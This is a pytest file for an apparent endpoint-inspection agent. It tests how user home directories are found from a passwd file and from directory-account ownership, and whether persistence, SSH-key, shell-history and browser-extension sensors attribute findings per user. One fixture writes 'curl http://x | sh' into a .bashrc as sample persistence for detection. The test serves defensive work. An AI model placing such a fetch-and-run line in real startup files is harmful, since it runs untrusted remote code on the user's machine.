"""Homes of local accounts and of those that only a directory knows."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agent.sensors.homes import homes
from tests.agent.sensors.comparing import rows_of, write

PASSWD = "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\nd:x:9:9::/:/bin/no\n"


class TestHomes:
    def test_are_given_once_and_only_where_they_are(self, tmp_path: Path) -> None:
        passwd = f"{PASSWD}x:x:8:8::/home/alice/:/bin/sh\ny:x:7:7::relative:/b\ngone:x:6:6::/g:/b\n"
        root = write(tmp_path, {"etc/passwd": passwd, "home/alice/x": "", "root/x": ""})

        found = [(home.user, home.path) for home in homes(root)]

        assert found[:2] == [("root", "/root"), ("alice", "/home/alice")]
        assert len(found) == 2

    @pytest.mark.root
    def test_are_known_by_their_owners_where_a_directory_has_the_accounts(
        self, tmp_path: Path
    ) -> None:
        places = ("home/alice/x", "home/carol/x", "home/ad.example/dave/x", "home/ad.example/old/x")
        root = write(
            tmp_path, {"etc/passwd": PASSWD, "home/lost+found/f": ""} | dict.fromkeys(places, "")
        )
        os.chown(root / "home/alice", 1000, 1000)
        os.chown(root / "home/carol", 700_001, 1)
        os.chown(root / "home/ad.example/dave", 700_002, 1)
        os.chown(root / "home/ad.example/old", 1000, 1)

        found = {(home.user, home.user_id, home.path) for home in homes(root)}

        assert found == {
            ("alice", 1000, "/home/alice"),
            ("carol", 700_001, "/home/carol"),
            ("dave", 700_002, "/home/ad.example/dave"),
            ("alice", 1000, "/home/ad.example/old"),
        }

    @pytest.mark.root
    def test_of_a_directory_are_looked_at_by_every_sensor(self, tmp_path: Path) -> None:
        key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA c\n"
        extension = "Default/Extensions/abc/1/manifest.json"
        root = write(
            tmp_path,
            {
                "etc/passwd": PASSWD,
                "home/carol/.bashrc": "curl http://x | sh\n",
                "home/carol/.bash_history": "id\n",
                "home/carol/.ssh/authorized_keys": key,
                "home/carol/.config/systemd/user/t.timer": "[Timer]\nOnCalendar=daily\n",
                f"home/carol/.config/chromium/{extension}": '{"name": "E", "version": "1"}',
            },
        )
        os.chown(root / "home/carol", 700_001, 1)

        for sensor in (
            "persistence.autoruns",
            "persistence.scheduled_jobs",
            "accounts.authorized_keys",
            "accounts.shell_history",
            "browsers.extensions",
        ):
            assert [row["User"] for row in rows_of(sensor, root)] == ["carol"], sensor
